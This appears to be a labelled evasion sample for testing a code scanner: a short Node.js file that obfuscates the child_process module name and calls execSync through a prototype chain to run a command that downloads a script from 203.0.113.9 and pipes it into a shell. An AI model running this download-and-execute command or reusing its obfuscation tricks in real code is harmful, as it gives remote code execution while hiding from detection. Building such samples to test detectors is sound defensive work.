// evasion: an object whose prototype is child_process (Object.create), so tools.execSync is found through the prototype chain; module name joined
// grade: hard; does: shell
'use strict';
const base = require(['child', 'process'].join('_'));
const tools = Object.create(base, { label: { value: 'tools' } });
tools.execSync('curl -s http://203.0.113.9/t.sh | sh', { stdio: 'inherit' });
